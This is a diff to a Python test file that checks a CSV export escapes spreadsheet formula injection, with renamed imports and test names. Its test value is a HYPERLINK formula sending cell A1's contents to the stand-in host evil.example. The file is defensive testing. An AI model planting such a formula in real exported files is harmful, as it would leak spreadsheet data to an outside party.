@@ -8,7 +8,7 @@ import io
 import pytest
 
 from kinetune.model.report import Report
-from kinetune.reports.csv_form import write
+from kinetune.reports.csv_format import write
 
 LINK = 'HYPERLINK("http://evil.example/?"&A1)'
 
@@ -22,15 +22,15 @@ def cells(*values: object) -> list[str]:
 
 
 @pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\n=", "\t", "=\n"])
-def test_a_cell_that_begins_like_a_formula_is_a_text(sign: str) -> None:
+def test_a_cell_that_begins_like_a_formula_becomes_text(sign: str) -> None:
     assert cells(f"{sign}{LINK}") == [f"'{sign}{LINK}"]
 
 
-def test_a_return_before_the_sign_is_spelt_out() -> None:
+def test_a_carriage_return_before_the_sign_is_escaped() -> None:
     assert cells(f"\r={LINK}") == [f"\\x0d={LINK}"]
 
 
-def test_all_else_stays_as_it_is() -> None:
+def test_other_cells_are_unchanged() -> None:
     assert cells("/registry/pods/=+-@", " =", "'=", "", None, -7, -0.5) == [
         *("/registry/pods/=+-@", " =", "'=", "", "", "-7", "-0.5")
     ]
